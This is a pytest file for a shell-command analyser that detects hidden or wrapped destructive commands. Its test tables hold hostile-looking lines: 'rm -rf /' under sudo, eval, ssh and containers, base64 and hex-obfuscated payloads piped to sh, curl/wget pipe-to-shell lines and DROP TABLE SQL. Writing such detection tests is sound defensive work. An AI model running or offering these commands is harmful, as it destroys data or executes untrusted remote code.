"""Command analysis: tables of command -> expected parts, one table per bypass class."""

from __future__ import annotations

from typing import Any

import pytest

from expacti_cli.analysis import Analysis, SimpleCommand, SqlKind, analyze


def part(analysis: Analysis, program: str, nth: int = 0) -> SimpleCommand:
    """The nth part running `program` (fails the test when there is none)."""
    found = [p for p in analysis.parts if p.program == program]
    assert len(found) > nth, f"no part {program!r} in {[p.program for p in analysis.parts]}"
    return found[nth]


def check(command: str, program: str, expected: dict[str, Any]) -> SimpleCommand:
    analysis = analyze(command)
    assert not analysis.unparsed, analysis.problems
    p = part(analysis, program)
    for name, value in expected.items():
        assert getattr(p, name) == value, f"{command!r}: {program}.{name} = {getattr(p, name)!r}"
    return p


# --- control operators, pipelines, subshells and groups ---------------------------------------

OPERATORS = [
    ("git status && rm -rf tmp", ["git", "rm"], ("&&",)),
    ("make || echo failed", ["make", "echo"], ("||",)),
    ("a; b; c", ["a", "b", "c"], (";", ";")),
    ("sleep 10 &", ["sleep"], ("&",)),
    ("ls\nrm x", ["ls", "rm"], ("\n",)),
    ("ls | grep x | wc -l", ["ls", "grep", "wc"], ("|", "|")),
    ("(cd /tmp && rm -rf x)", ["cd", "rm"], ("&&",)),
    ("{ echo a; rm b; }", ["echo", "rm"], (";", ";")),
    ("if test -f x; then rm x; else touch x; fi", ["test", "rm", "touch"], (";", ";", ";")),
    ("for f in a b; do rm $f; done", ["rm"], (";", ";")),
    ("while true; do sleep 1; done", ["true", "sleep"], (";", ";")),
    ("f() { rm -rf /; }", ["rm"], (";",)),
    ("! grep -q x f", ["grep"], ()),
    ("case $x in a) rm a;; b) ls;; esac", ["rm", "ls"], ()),
]


@pytest.mark.parametrize(("command", "programs", "operators"), OPERATORS)
def test_every_part_of_a_compound_command_is_found(
    command: str, programs: list[str], operators: tuple[str, ...]
) -> None:
    analysis = analyze(command)
    assert not analysis.unparsed, analysis.problems
    assert [p.program for p in analysis.top_parts] == programs
    assert analysis.operators == operators


def test_background_and_top_indexes() -> None:
    analysis = analyze("sleep 5 & rm x")
    sleep, rm = analysis.parts
    assert sleep.background and not rm.background
    assert (sleep.top, rm.top) == (0, 1)


def test_pipeline_positions_and_piped_into() -> None:
    analysis = analyze("cat f | sort | uniq -c")
    cat, sort, uniq = analysis.parts
    assert [p.pipeline_position for p in analysis.parts] == [0, 1, 2]
    assert {p.pipeline_length for p in analysis.parts} == {3}
    assert (cat.piped_into, sort.piped_into, uniq.piped_into) == ("sort", "uniq", "")


# --- substitutions ------------------------------------------------------------------------------

SUBSTITUTIONS = [
    ("echo $(rm -rf /tmp/x)", "rm", {"depth": 1, "top": 0, "via": ("$()",)}),
    ("echo `rm -rf /tmp/x`", "rm", {"depth": 1, "via": ("``",)}),
    ("diff <(rm a) b", "rm", {"depth": 1, "via": ("<()",)}),
    ("tee >(rm a)", "rm", {"depth": 1, "via": (">()",)}),
    ('echo "x $(rm a) y"', "rm", {"depth": 1}),
    ("echo ${x:-$(rm a)}", "rm", {"depth": 1}),
    ("echo $(echo $(rm a))", "rm", {"depth": 2, "via": ("$()", "$()")}),
    ("X=$(rm a) make", "rm", {"depth": 1}),
    ("export A=$(rm a)", "rm", {"depth": 1}),
    ("A=$(rm a)", "rm", {"depth": 1}),
    ("ls > $(rm a)", "rm", {"depth": 1}),
]


@pytest.mark.parametrize(("command", "program", "expected"), SUBSTITUTIONS)
def test_substitutions_are_nested_parts(
    command: str, program: str, expected: dict[str, Any]
) -> None:
    check(command, program, expected)
    outer = analyze(command).parts[0]
    assert outer.has_substitution


def test_substitution_as_program_is_dynamic() -> None:
    p = check("$(which rm) -rf /", "$(which rm)", {"dynamic_program": True})
    assert p.short_flags == {"r", "f"}


# --- redirects ----------------------------------------------------------------------------------

REDIRECTS = [
    ("echo x > out.txt", ">", "out.txt", None, True),
    ("echo x >> log", ">>", "log", None, True),
    ("echo x >| f", ">|", "f", None, True),
    ("make &> build.log", "&>", "build.log", None, True),
    ("make >& build.log", ">&", "build.log", None, True),
    ("make 2> err.txt", ">", "err.txt", 2, True),
    ("make > /dev/null", ">", "/dev/null", None, False),
    ("make 2>/dev/stderr", ">", "/dev/stderr", 2, False),
    ("make 2>&1", ">&", "1", 2, False),
    ("make >&2", ">&", "2", None, False),
    ("sort < in.txt", "<", "in.txt", None, False),
    ("exec 3>&-", ">&-", "", 3, False),
]


@pytest.mark.parametrize(("command", "op", "target", "fd", "is_write"), REDIRECTS)
def test_redirects(command: str, op: str, target: str, fd: int | None, is_write: bool) -> None:
    analysis = analyze(command)
    assert not analysis.unparsed, analysis.problems
    (redirect,) = analysis.parts[0].redirects
    assert (redirect.op, redirect.target, redirect.fd, redirect.is_write) == (
        op,
        target,
        fd,
        is_write,
    )


def test_dynamic_redirect_target_is_a_write() -> None:
    (redirect,) = analyze('echo x > "$OUT"').parts[0].redirects
    assert redirect.is_write and redirect.dynamic


def test_redirect_into_a_process_substitution_is_not_a_file_write() -> None:
    analysis = analyze("make > >(tee build.log) 2>&1")
    assert not any(r.is_write for r in analysis.parts[0].redirects)
    assert part(analysis, "tee").positionals == ("build.log",)


def test_words_after_a_redirect_target_are_arguments() -> None:
    # tree-sitter files `-rf /` under the redirect; bash passes them to rm
    rm = analyze("rm > log -rf /").parts[0]
    assert rm.argv == ("rm", "-rf", "/")
    assert rm.redirects[0].target == "log"


def test_redirect_after_a_list_belongs_to_the_last_command() -> None:
    first, second = analyze("git pull && make > build.log").parts
    assert first.redirects == ()
    assert second.redirects[0].target == "build.log"


def test_redirect_on_a_group_applies_to_every_command_inside() -> None:
    analysis = analyze("{ echo a; echo b; } > out")
    assert all(p.redirects and p.redirects[0].is_write for p in analysis.parts)


# --- here-docs and here-strings -----------------------------------------------------------------


def test_heredoc_fed_to_a_shell_is_code() -> None:
    rm = check("bash <<EOF\nrm -rf /tmp/x\nEOF", "rm", {"depth": 1, "top": 0})
    assert rm.positionals == ("/tmp/x",)


def test_herestring_fed_to_a_shell_is_code() -> None:
    check('sh <<< "rm -rf /tmp/x"', "rm", {"depth": 1, "via": ("sh <<<",)})


def test_heredoc_fed_to_an_interpreter_is_interpreter_code() -> None:
    py = check("python3 - <<'EOF'\nimport shutil\nEOF", "python3", {})
    assert py.interpreter_code == "import shutil\n"


def test_heredoc_written_to_a_file_is_data() -> None:
    analysis = analyze("cat > notes.txt <<'EOF'\nrm -rf /\nEOF")
    assert [p.program for p in analysis.parts] == ["cat"]
    writes = [r for r in analysis.parts[0].redirects if r.is_write]
    assert [r.target for r in writes] == ["notes.txt"]


def test_heredoc_piped_into_a_database_client() -> None:
    analysis = analyze("cat <<EOF | psql app && rm y\nDROP TABLE x;\nEOF")
    assert [p.program for p in analysis.parts] == ["cat", "psql", "rm"]
    psql = part(analysis, "psql")
    assert psql.pipeline_position == 1
    assert [s.kind for s in psql.sql] == [SqlKind.DESTRUCTIVE]
    assert analysis.operators == ("|", "&&")


def test_unquoted_heredoc_body_substitutions_run() -> None:
    check("cat > f <<EOF\n$(rm -rf /tmp/x)\nEOF", "rm", {"depth": 1})


# --- env prefixes and wrappers ------------------------------------------------------------------

WRAPPERS = [
    ("FOO=1 BAR=x rm a", "rm", (), (("FOO", "1"), ("BAR", "x"))),
    ("sudo rm -rf /", "rm", ("sudo",), ()),
    ("sudo -u deploy -H rm -rf /srv", "rm", ("sudo",), ()),
    ("sudo -E VAR=1 -- rm x", "rm", ("sudo",), ()),
    ("env -i PATH=/bin rm x", "rm", ("env",), (("PATH", "/bin"),)),
    ("env -u HOME rm x", "rm", ("env",), ()),
    ("timeout 10 rm x", "rm", ("timeout",), ()),
    ("timeout -s KILL 5m rm x", "rm", ("timeout",), ()),
    ("nice -n 10 rm x", "rm", ("nice",), ()),
    ("nohup rm x", "rm", ("nohup",), ()),
    ("stdbuf -oL rm x", "rm", ("stdbuf",), ()),
    ("stdbuf -o L rm x", "rm", ("stdbuf",), ()),
    ("setsid rm x", "rm", ("setsid",), ()),
    ("time rm x", "rm", ("time",), ()),
    ("command rm x", "rm", ("command",), ()),
    ("builtin cd x", "cd", ("builtin",), ()),
    ("exec rm x", "rm", ("exec",), ()),
    ("xargs -0 -n 1 -P4 rm -f", "rm", ("xargs",), ()),
    ("xargs -I{} rm {}", "rm", ("xargs",), ()),
    ("parallel -j4 rm ::: a b", "rm", ("parallel",), ()),
    ("sudo timeout 5 nice -n 1 rm x", "rm", ("sudo", "timeout", "nice"), ()),
    ("doas rm x", "rm", ("doas",), ()),
]


@pytest.mark.parametrize(("command", "program", "wrappers", "env"), WRAPPERS)
def test_wrappers_are_looked_through(
    command: str, program: str, wrappers: tuple[str, ...], env: tuple[tuple[str, str], ...]
) -> None:
    p = check(command, program, {"wrappers": wrappers})
    for pair in env:
        assert pair in p.env
    assert p.argv[0].endswith(program)
    assert set(p.argv) <= set(p.words)


def test_wrapper_without_a_command_is_the_program() -> None:
    assert analyze("sudo -l").parts[0].program == "sudo"
    assert analyze("command -v rm").parts[0].program == "command"
    assert analyze("env").parts[0].program == "env"


def test_find_exec_and_delete() -> None:
    analysis = analyze(r"find . -name '*.tmp' -exec rm -f {} \; -delete")
    find = part(analysis, "find")
    assert find.find_actions == ("-exec", "-delete")
    rm = part(analysis, "rm")
    assert (rm.depth, rm.via, rm.argv) == (1, ("find -exec",), ("rm", "-f", "{}"))


@pytest.mark.parametrize("action", ["-execdir", "-ok", "-okdir"])
def test_find_exec_variants(action: str) -> None:
    analysis = analyze(f"find / {action} shred {{}} +")
    assert part(analysis, "shred").depth == 1
    assert action in part(analysis, "find").find_actions


def test_watch_command_is_code() -> None:
    check('watch -n 5 "rm -f /tmp/x && ls"', "rm", {"depth": 1, "via": ("watch",)})


def test_parallel_single_word_command_is_code() -> None:
    check("parallel 'rm {}' ::: a b", "rm", {"depth": 1, "via": ("parallel",)})


# --- shells, eval, interpreters -----------------------------------------------------------------

SHELL_CODE = [
    ("bash -c 'rm -rf /tmp/x'", "bash -c"),
    ("sh -c 'rm -rf /tmp/x'", "sh -c"),
    ("zsh -c 'rm -rf /tmp/x'", "zsh -c"),
    ("dash -c 'rm -rf /tmp/x'", "dash -c"),
    ("bash -lc 'rm -rf /tmp/x'", "bash -c"),
    ("bash -e -o pipefail -c 'rm -rf /tmp/x'", "bash -c"),
    ("/bin/bash --login -c 'rm -rf /tmp/x'", "bash -c"),
    ("sudo bash -c 'rm -rf /tmp/x'", "bash -c"),
    ("eval 'rm -rf /tmp/x'", "eval"),
    ("eval rm -rf /tmp/x", "eval"),
    ("su root -c 'rm -rf /tmp/x'", "su root"),
]


@pytest.mark.parametrize(("command", "via"), SHELL_CODE)
def test_shell_code_is_recursed_into(command: str, via: str) -> None:
    rm = check(command, "rm", {"depth": 1, "top": 0})
    assert rm.via == (via,)
    assert rm.short_flags == {"r", "f"}


def test_eval_is_marked_and_nested_eval_counts_depth() -> None:
    analysis = analyze("eval \"bash -c 'eval rm x'\"")
    assert analysis.parts[0].is_eval
    assert part(analysis, "rm").depth == 3


def test_sh_c_with_dynamic_script_is_eval() -> None:
    analysis = analyze('sh -c "$x"')
    assert analysis.parts[0].is_eval
    assert not analyze("sh -c 'ls'").parts[0].is_eval


def test_depth_limit() -> None:
    command = "eval " + "'eval " * 3 + "rm x" + "'" * 3
    limited = analyze(command, max_depth=2)
    assert limited.depth_exceeded and limited.unparsed
    assert any("nesting" in p for p in limited.problems)
    assert not analyze(command).depth_exceeded


INTERPRETERS = [
    ("python -c 'import os'", "python", "import os"),
    ("python3 -c 'print(1)' arg", "python3", "print(1)"),
    ("python3.11 -I -c 'print(1)'", "python3.11", "print(1)"),
    ("node -e 'console.log(1)'", "node", "console.log(1)"),
    ("node --eval='x()'", "node", "x()"),
    ("perl -e 'print 1'", "perl", "print 1"),
    ("perl -ne 'print if /x/' f", "perl", "print if /x/"),
    ("ruby -e 'puts 1'", "ruby", "puts 1"),
]


@pytest.mark.parametrize(("command", "program", "code"), INTERPRETERS)
def test_interpreter_one_liners(command: str, program: str, code: str) -> None:
    check(command, program, {"interpreter_code": code})


def test_shell_commands_inside_interpreter_code_are_parts() -> None:
    analysis = analyze("""python3 -c 'import os; os.system("rm -rf /srv")'""")
    rm = part(analysis, "rm")
    assert (rm.depth, rm.via) == (1, ("python3 code",))


def test_python_script_is_not_code() -> None:
    assert analyze("python3 manage.py migrate").parts[0].interpreter_code == ""


# --- remote and container execution -------------------------------------------------------------

REMOTE = [
    ("ssh prod-db 'rm -rf /var/lib/x'", "prod-db", ""),
    ("ssh -p 2222 -i ~/.ssh/key -o StrictHostKeyChecking=no deploy@web1 rm -rf /x", "web1", ""),
    ("ssh -J bastion -l root db2 -- rm -rf /x", "db2", ""),
    ("docker exec -it web rm -rf /x", "", "web"),
    ("docker exec -u root -e A=1 web sh -c 'rm -rf /x'", "", "web"),
    ("kubectl exec -n prod -it api-0 -- rm -rf /x", "", "api-0"),
    ("kubectl --context prod exec api-0 -c app -- sh -c 'rm -rf /x'", "", "api-0"),
    ("docker compose exec app rm -rf /x", "", "app"),
    ("docker run --rm -v /:/host -e A=1 --name t alpine rm -rf /x", "", "alpine"),
    ("podman exec web rm -rf /x", "", "web"),
]


@pytest.mark.parametrize(("command", "host", "container"), REMOTE)
def test_remote_and_container_commands(command: str, host: str, container: str) -> None:
    rm = check(command, "rm", {"remote_host": host, "container": container})
    assert rm.depth >= 1 and rm.top == 0


# --- normalisation ------------------------------------------------------------------------------

NAMES = [
    ("/bin/rm -rf x", "rm"),
    ("\\rm -rf x", "rm"),
    ('"rm" -rf x', "rm"),
    ("'rm' -rf x", "rm"),
    ("r'm' -rf x", "rm"),
    ("/usr/local/bin/python3.11 x.py", "python3.11"),
    ("./node_modules/.bin/jest", "jest"),
]


@pytest.mark.parametrize(("command", "program"), NAMES)
def test_program_names_are_normalised(command: str, program: str) -> None:
    assert analyze(command).parts[0].program == program


FLAGS = [
    ("rm -rf x", {"r", "f"}, set(), ("x",)),
    ("rm -r -f x", {"r", "f"}, set(), ("x",)),
    ("rm --recursive --force x", set(), {"recursive", "force"}, ("x",)),
    ("git push --force-with-lease=main", set(), {"force-with-lease"}, ("push",)),
    ("rm -- -f", set(), set(), ("-f",)),
    ("cat -", set(), set(), ("-",)),
]


@pytest.mark.parametrize(("command", "short", "long", "positionals"), FLAGS)
def test_flags_are_split(
    command: str, short: set[str], long: set[str], positionals: tuple[str, ...]
) -> None:
    p = analyze(command).parts[0]
    assert (p.short_flags, p.long_flags, p.positionals) == (short, long, positionals)


SUBCOMMANDS = [
    ("git -C /repo push origin main", "push"),
    ("git -c user.name=x commit -m y", "commit"),
    ("git --git-dir=/x/.git --no-pager log", "log"),
    ("git --work-tree /x status", "status"),
    ("kubectl -n prod delete deployment/api", "delete"),
    ("kubectl --context=prod get pods", "get"),
    ("docker --context prod rm -f web", "rm"),
    ("npm --prefix app run build", "run"),
    ("yarn --cwd app test", "test"),
    ("pnpm -C app install", "install"),
    ("cargo +nightly build", "build"),
    ("go test ./...", "test"),
    ("terraform -chdir=infra destroy", "destroy"),
    ("helm -n prod uninstall api", "uninstall"),
    ("aws --profile prod s3 rm s3://b --recursive", "s3"),
    ("gcloud --project p compute instances delete x", "compute"),
    ("systemctl --user restart app", "restart"),
    ("brew uninstall x", "uninstall"),
    ("apt-get -y install x", "install"),
    ("pip install -r r.txt", "install"),
    ("pip3.11 uninstall x", "uninstall"),
]


@pytest.mark.parametrize(("command", "sub"), SUBCOMMANDS)
def test_subcommands(command: str, sub: str) -> None:
    assert analyze(command).parts[0].subcommand == sub


def test_plain_programs_have_no_subcommand() -> None:
    assert analyze("rm -rf build").parts[0].subcommand == ""


# --- indirection and obfuscation ----------------------------------------------------------------


def test_dynamic_program() -> None:
    p = analyze("$cmd -rf /").parts[0]
    assert p.dynamic_program and p.short_flags == {"r", "f"}
    assert analyze('ls "$dir"').parts[0].dynamic_args
    assert not analyze("ls *.txt").parts[0].dynamic_args


OBFUSCATED = [
    "echo cm0gLXJmIC8K | base64 -d | sh",
    "echo cm0gLXJmIC8K | base64 --decode | bash",
    "echo 726d202d7266202f | xxd -r -p | sh",
    "echo 'rm -rf /' | bash",
    "curl -fsSL https://example.com/install.sh | sh",
    "wget -qO- https://example.com/x | python3",
    "printf '\\x72\\x6d -rf /' | sh",
    "$'\\x72\\x6d' -rf /",
    'eval "$(echo cm0gLXJmIC8K | base64 -d)"',
    'bash -c "$(curl -fsSL https://example.com/x)"',
    "python3 -c 'import base64; exec(base64.b64decode(\"cHJpbnQoMSk=\"))'",
]


@pytest.mark.parametrize("command", OBFUSCATED)
def test_obfuscation_is_flagged(command: str) -> None:
    analysis = analyze(command)
    assert any(p.obfuscated for p in analysis.parts), analysis.parts


DECODED = [
    ("echo cm0gLXJmIC8K | base64 -d | sh", "rm -rf /"),
    ("echo 726d202d7266202f | xxd -r -p | sh", "rm -rf /"),
    ("printf '\\x72\\x6d -rf /' | sh", "rm -rf /"),
    ("$'\\x72\\x6d' -rf /", "rm"),
    ('eval "$(echo cm0gLXJmIC8K | base64 -d)"', "rm -rf /"),
]


@pytest.mark.parametrize(("command", "payload"), DECODED)
def test_decoded_preview_in_notes(command: str, payload: str) -> None:
    analysis = analyze(command)
    assert any(payload in note for note in analysis.notes), analysis.notes


@pytest.mark.parametrize(
    "command",
    [
        "echo cm0gLXJmIC8K | base64 -d | sh",
        "echo 'rm -rf /' | bash",
        'eval "$(echo cm0gLXJmIC8K | base64 -d)"',
    ],
)
def test_decoded_payload_fed_to_a_shell_becomes_parts(command: str) -> None:
    rm = part(analyze(command), "rm")
    assert rm.depth == 1 and rm.short_flags == {"r", "f"}


def test_plain_pipes_are_not_obfuscated() -> None:
    analysis = analyze("cat log | grep error | sort")
    assert not any(p.obfuscated for p in analysis.parts)
    assert not analyze("base64 -d file > out").parts[0].obfuscated


# --- data is not code ---------------------------------------------------------------------------

DATA = [
    ('grep -rn "rm -rf" .', ["grep"]),
    ('git commit -m "drop table later"', ["git"]),
    ("echo 'DROP TABLE x'", ["echo"]),
    ("echo 'rm -rf /' > notes.txt", ["echo"]),
    ("printf 'eval $(x)\\n'", ["printf"]),
    ("ssh-keygen -C 'rm -rf'", ["ssh-keygen"]),
    ("python3 script.py 'rm -rf /'", ["python3"]),
]


@pytest.mark.parametrize(("command", "programs"), DATA)
def test_data_is_not_code(command: str, programs: list[str]) -> None:
    analysis = analyze(command)
    assert [p.program for p in analysis.parts] == programs
    assert all(not p.sql for p in analysis.parts)


# --- parse failures and bad input ---------------------------------------------------------------

UNPARSED = [
    'rm -rf "unterminated',
    "ls <\nrm -rf ~",
    "ls >\nrm -rf ~",
    "$\nrm -rf ~",
    "x=$\nrm -rf ~",
    "ls; fi",
    "sudo (rm -rf /tmp/x)",
    "echo $(ls",
    "if then fi",
    "ls ))",
    "echo `",
    "a && ",
    "cat <<EOF | bash &\nrm x\nEOF",
]


@pytest.mark.parametrize("command", UNPARSED)
def test_syntax_errors_are_unparsed_with_a_location(command: str) -> None:
    analysis = analyze(command)
    assert analysis.unparsed
    assert any("line" in p for p in analysis.problems), analysis.problems


def test_unparsed_still_reports_what_it_read() -> None:
    analysis = analyze('rm -rf / "unterminated')
    assert analysis.unparsed and part(analysis, "rm").positionals[0] == "/"


def test_syntax_error_inside_nested_code_is_unparsed() -> None:
    analysis = analyze("bash -c 'rm -rf \"x'")
    assert analysis.unparsed
    assert any("bash -c" in p for p in analysis.problems)


@pytest.mark.parametrize(
    "command",
    [b"ls \x00 rm", b"rm -rf \xff\xfe", "echo \x1b[2J", b"\x7fELF\x02\x01\x01"],
)
def test_binary_input_is_unparsed(command: str | bytes) -> None:
    analysis = analyze(command)
    assert analysis.unparsed
    assert isinstance(analysis.source, str)


def test_bytes_are_decoded_losslessly() -> None:
    raw = b"echo \xff"
    assert analyze(raw).source.encode("utf-8", "surrogateescape") == raw


def test_too_large() -> None:
    from expacti_cli.analysis import MAX_COMMAND_BYTES

    analysis = analyze("x" * (MAX_COMMAND_BYTES + 1))
    assert analysis.unparsed and analysis.parts == ()
    assert "too large" in analysis.problems[0]
    assert not analyze("echo " + "x" * 1000).unparsed


def test_stray_subshell_is_unparsed_but_its_commands_are_parts() -> None:
    analysis = analyze("sudo (rm -rf /tmp/x)")
    assert analysis.unparsed
    assert part(analysis, "rm").positionals == ("/tmp/x",)


def test_characters_the_parser_cannot_take_are_kept() -> None:
    # U+2CF6E after `{` crashed tree-sitter-bash 0.25 in fuzzing: it is parsed as a stand-in
    command = "echo {\U0002cf6e\U0010ffff > f"
    analysis = analyze(command)
    assert not analysis.unparsed
    assert analysis.parts[0].argv == ("echo", "{\U0002cf6e\U0010ffff")
    assert analysis.parts[0].text == command


def test_pipeline_binds_tighter_than_and_or() -> None:
    # tree-sitter-bash reads `a | b | c && d` as `a | ((b | c) && d)`; bash does not
    analysis = analyze('cat f | grep "$x" | wc -l && echo done')
    assert [p.pipeline_length for p in analysis.parts] == [3, 3, 3, 1]
    assert [p.pipeline_position for p in analysis.parts] == [0, 1, 2, 0]
    assert analysis.operators == ("|", "|", "&&")
    assert analysis.parts[2].piped_into == ""


def test_comment_after_a_redirect_operator_is_unparsed() -> None:
    # bash: syntax error near `newline`; tree-sitter reads the next line as the target
    analysis = analyze("a <# note\nrm -rf ~")
    assert analysis.unparsed
